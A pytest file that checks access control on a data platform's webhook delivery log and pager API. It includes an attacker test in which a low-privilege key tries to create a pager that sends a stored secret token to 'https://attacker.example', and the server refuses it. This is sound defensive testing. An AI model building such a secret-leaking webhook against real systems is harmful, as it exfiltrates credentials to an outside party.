"""The delivery log over the real API server, and pagers applied through it, as an operator
and as an attacker holding a plain data-dev key."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from dataos_defs.api.client import ApiFailure, DataosClient
from dataos_defs.monitor.deliveries import Deliverer
from dataos_defs.monitor.deliveries_log import DeliveryLog
from dataos_defs.monitor.deliveries_secrets import StoreSecrets
from dataos_defs.monitor.deliveries_targets import ALLOW_NETWORKS_ENV
from dataos_defs.monitor.pagers import active_pagers
from dataos_defs.poros.settings import Settings
from dataos_defs.poros.store import Store
from tests.interfaces.conftest import Server, start_server, stop_server, user_key, wire
from tests.monitor.deliveries_support import INCIDENT, http_receiver

pytestmark = pytest.mark.slow
TOKEN = "api-test-token-5c4b3a2d"
ROUTE = "/monitor/api/v1/deliveries"
SECRET = f"""\
name: hook
version: v1
type: secret
secret: {{type: key-value, acl: r, data: {{TOKEN: {TOKEN}}}}}
"""
PAGER = """\
name: {name}
version: v1alpha
type: pager
pager:
  conditions:
    - {{valueJqFilter: .severity, operator: equals, value: high}}
  output:
    webHook:
      url: {url}/hook?sig=query-secret
      verb: post
      headers: {{Authorization: 'Bearer ${{{{secret.hook.TOKEN}}}}'}}
"""


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    running = start_server(tmp_path_factory.mktemp("dataos-home"))
    yield running
    stop_server(running)


def _deliver(home: Path) -> list[bytes]:
    """Deliver INCIDENT to every stored pager, as the process running monitors would."""
    settings = Settings.from_env({"DATAOS_HOME": str(home)})
    with Store.open(settings=settings) as store:
        pagers = active_pagers(store)
    made = Deliverer(
        DeliveryLog.in_home(home),
        StoreSecrets(lambda: Store.open(settings=settings)),
        sleep=lambda seconds: None,
    )
    for workspace, pager in pagers:
        made.submit(workspace, pager, INCIDENT)
    assert made.drain()
    made.close()
    return [name.encode() for _, name in ((w, p.name) for w, p in pagers)]


def test_operator_reads_deliveries_without_secrets(
    server: Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(ALLOW_NETWORKS_ENV, "127.0.0.1/32")
    with http_receiver() as receiver:
        client = DataosClient(server.url, api_key=server.api_key)
        client.apply(
            wire(SECRET + "---\n" + PAGER.format(name="vaulted", url=receiver.url)), "public"
        )
        _deliver(server.home)
    assert [r.headers["authorization"] for r in receiver.received] == [f"Bearer {TOKEN}"]
    with httpx.Client(base_url=server.url, headers=server.headers) as operator:
        answer = operator.get(ROUTE, params={"pager": "public/vaulted", "incident": "inc-42"})
        other = operator.get(ROUTE, params={"pager": "public/nobody"})
        too_many = operator.get(ROUTE, params={"limit": 100_000})
    assert answer.status_code == 200, answer.text
    [entry] = answer.json()["items"]
    assert (entry["outcome"], entry["status"], entry["target"]) == ("delivered", 200, "127.0.0.1")
    assert TOKEN not in answer.text and "query-secret" not in answer.text
    assert other.json() == {"items": []}
    assert too_many.status_code in (400, 422)


def test_data_dev_cannot_read_deliveries(server: Server) -> None:
    key = user_key(server, "mallory", ["roles:id:data-dev", "roles:id:user"])
    denied = httpx.get(f"{server.url}{ROUTE}", headers={"Authorization": f"Bearer {key}"})
    assert denied.status_code == 403
    assert TOKEN not in denied.text
    forged = {"Authorization": "Bearer dok_0123456789abcdef_" + "A" * 43}
    for headers in ({}, forged, {"apikey": "not-a-key"}):
        assert httpx.get(f"{server.url}{ROUTE}", headers=headers).status_code == 401


def test_data_dev_cannot_exfiltrate_a_secret_through_a_pager(server: Server) -> None:
    DataosClient(server.url, api_key=server.api_key).apply(wire(SECRET), "public")
    key = user_key(server, "eve", ["roles:id:data-dev", "roles:id:user"])
    attacker = DataosClient(server.url, api_key=key)
    with pytest.raises(ApiFailure) as refused:
        attacker.apply(wire(PAGER.format(name="exfil", url="https://attacker.example")), "public")
    [issue] = refused.value.issues
    assert "may not use" in issue["message"] and "hook" in issue["message"]
    with Store.open(settings=Settings.from_env({"DATAOS_HOME": str(server.home)})) as store:
        assert store.get("pager", "exfil", "public") is None
